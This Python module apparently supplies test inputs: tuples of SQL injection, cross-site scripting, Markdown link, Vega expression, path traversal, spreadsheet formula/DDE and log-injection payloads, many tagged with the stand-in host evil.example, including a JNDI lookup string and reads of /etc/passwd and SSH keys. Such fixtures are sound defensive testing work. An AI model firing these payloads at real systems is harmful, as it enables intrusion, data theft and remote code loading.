"""Texts that attack: what each would do if it were executed is named in `MARK`, so that a trace of it can be found."""

from itertools import product
from urllib.parse import quote

MARK = "evil.example"  # the host that every attack would call, or the name it would leave behind
SQL = (
    "' or 1=1 --",
    "'; drop table grades; --",
    '"; drop table grades; --',
    "') union select * from grades --",
    "1; attach 'evil.example.duckdb' as x",
    "'; copy grades to '/tmp/evil.example.csv'; --",
    "$authority",
    "?",
    "%",
    "_",
    "' union select content from read_text('/etc/passwd') --",
    "'; install httpfs; load httpfs; --",
    "\\'",
    "''",
    "/*",
    "--",
    "'; set enable_external_access=true; --",
    "'; pragma database_list; --",
    "0x41",
    "null",
    "'||(select version())||'",
)
HTML = (
    "<script>fetch('//evil.example')</script>",
    "<img src=x onerror=\"fetch('//evil.example')\">",
    "</title><script>1</script>",
    "\"><svg onload=alert('evil.example')>",
    "' onmouseover='alert(1)' x='evil.example",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example'</style>",
    "</script><script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><input name=x></form>",
    "&lt;script&gt;evil.example",
    "<!--",
    "]]>",
    "<math><mtext><script>1",
    "<object data=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
)
MARKDOWN = (
    "[sign in](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "https://evil.example",
    "www.evil.example",
    "a@evil.example",
    "<https://evil.example>",
    "[x]: https://evil.example",
    "`x`",
    "$$\\href{https://evil.example}{x}$$",
    ":red[evil.example]",
    "# evil.example",
    "| a | b |\n|---|---|\n| evil.example | x |",
    "\n\n[x](javascript:alert(1))",
    "~~evil.example~~",
    "[![x](//evil.example)](//evil.example)",
    "HTTPS://EVIL.EXAMPLE",
)
VEGA = (
    "datum.constructor.constructor('fetch(\"//evil.example\")')()",
    "');fetch('//evil.example');('",
    "\\u0027+window+\\u0027",
    '{"signal": "window.open(\'//evil.example\')"}',
    "toString.constructor('evil.example')()",
    "event.view.eval('evil.example')",
    "isValid(datum) ? 'evil.example' : ''",
    "'] || datum['__proto__",
    "{{evil.example}}",
    "${evil.example}",
    "%7b%7b7*7%7d%7d",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "data.csv\0.html",
    "CON",
    "a/b/../../../c",
    "~root/.ssh/id_rsa",
    "\\\\evil.example\\share",
    "//evil.example/x",
    ".",
    "..",
    "",
    " ",
    "%00",
    "grades.csv;evil.example",
    "-rf evil.example",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'evil.example'!A0",
    "@SUM(1+1)*cmd|'evil.example'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("https://evil.example")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"evil.example")',
    "＝1+1",
    "'=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "%0A=1+1",
)
LOGS = (
    'x\n{"at": "2026-01-01", "event": "evil.example"}',
    "x\r\nSet-Cookie: evil.example=1",
    "\x1b[2J\x1b]0;evil.example\x07",
    "x\u2028evil.example",
    "x\u0085evil.example",
    "%0d%0aLocation:%20//evil.example",
    "\x00evil.example",
    "\b\b\bevil.example",
    "\ud800".encode("utf-8", "replace").decode(),
    "${jndi:ldap://evil.example/a}",
    "%s%n%x evil.example",
    "{0.__class__} evil.example",
    "\u202eevil.example",
    "A" * 5000 + "evil.example",
)
BASE = (*SQL, *HTML, *MARKDOWN, *VEGA, *PATHS, *FORMULAS, *LOGS)
WAYS = (str, lambda text: f"856{text}", lambda text: f"{text},894", quote, lambda text: text.upper())
ALL = tuple(dict.fromkeys(way(text) for text, way in product(BASE, WAYS)))


def sample(of: tuple[str, ...], step: int, first: int = 0) -> tuple[str, ...]:
    """Every so many of them, another choice for each `first`."""
    return tuple(of[first % step :: step])
